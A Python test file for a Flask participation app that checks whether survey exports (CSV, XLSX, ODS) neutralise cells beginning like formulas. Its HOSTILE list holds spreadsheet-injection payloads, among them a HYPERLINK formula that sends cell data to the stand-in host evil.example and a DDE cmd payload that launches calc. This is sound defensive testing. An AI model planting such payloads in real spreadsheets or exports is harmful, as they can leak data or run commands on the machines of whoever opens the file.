"""Issue 17 item 3: an export opened in a spreadsheet shows text as text, never as a formula."""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any

from flask import Flask
from openpyxl import load_workbook

from participatie.extensions import db
from participatie.models import Project
from tests.conftest import PageCheckingClient, login
from tests.report import builders as b

COORDINATOR = "coordinator@kempenaar.example"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\tverborgen",
    "\r=1+1",
]


def _hostile_survey(app: Flask) -> None:
    with app.app_context():
        project = db.session.query(Project).filter_by(slug="demo").one()
        options = [{"name": f"o{i}", "label": {"nl": text}} for i, text in enumerate(HOSTILE)]
        survey = b.survey(
            project,
            [
                {
                    "name": "keuze",
                    "type": "select_one",
                    "label": {"nl": "=1+1"},
                    "options": options,
                },
                {"name": "getal", "type": "integer", "label": {"nl": "@getal"}},
            ],
            code="HOSTIEL",
        )
        # Six answers per option: every count is at least k, so none is hidden.
        for i in range(6 * len(HOSTILE)):
            b.respond(survey, {"keuze": f"o{i % len(HOSTILE)}", "getal": -5 - i})
        db.session.commit()


def _export(client: Any, fmt: str, lang: str = "nl") -> bytes:
    # Coordinators export live figures (the survey was made after the demo's release).
    response = client.get(f"/projecten/demo/resultaten/HOSTIEL/{fmt}?lang={lang}&live=1")
    assert response.status_code == 200, response.status_code
    return bytes(response.data)


def test_csv_cells_that_start_like_a_formula_are_neutralised(
    app: Flask, client: PageCheckingClient, demo: None
) -> None:
    _hostile_survey(app)
    login(client, COORDINATOR)
    text = _export(client, "csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    labels = {row[2] for row in rows[1:]}
    for hostile in HOSTILE:
        assert "'" + hostile in labels
    # Numbers stay numbers and the Belgian CSV stays: semicolons and a decimal comma.
    first = next(row for row in rows if row[0] == "keuze")
    assert first[3].isdigit() and "," in first[4]


def test_xlsx_text_cells_are_text_never_formulas(
    app: Flask, client: PageCheckingClient, demo: None
) -> None:
    _hostile_survey(app)
    login(client, COORDINATOR)
    book = load_workbook(io.BytesIO(_export(client, "xlsx")))
    seen: set[str] = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    seen.add(cell.value)
    assert set(HOSTILE) <= seen and "=1+1" in seen
    # No formula element in the file itself either.
    with zipfile.ZipFile(io.BytesIO(_export(client, "xlsx"))) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


def test_ods_text_cells_are_strings_never_formulas(
    app: Flask, client: PageCheckingClient, demo: None
) -> None:
    _hostile_survey(app)
    login(client, COORDINATOR)
    with zipfile.ZipFile(io.BytesIO(_export(client, "ods"))) as archive:
        content = archive.read("content.xml").decode()
    assert "table:formula" not in content
    from odf.namespaces import OFFICENS
    from odf.opendocument import load
    from odf.table import TableCell

    document = load(io.BytesIO(_export(client, "ods")))
    texts = [
        cell
        for cell in document.getElementsByType(TableCell)
        if str(cell) in {*HOSTILE, "=1+1", "@getal"}
    ]
    # (odfpy writes a tab or carriage return as an element of its own, so those two read back
    # differently; the value type is what matters)
    assert {str(cell) for cell in texts} >= {HOSTILE[0], HOSTILE[2], HOSTILE[3], "=1+1", "@getal"}
    for cell in texts:
        assert cell.attributes.get((OFFICENS, "value-type")) == "string", str(cell)
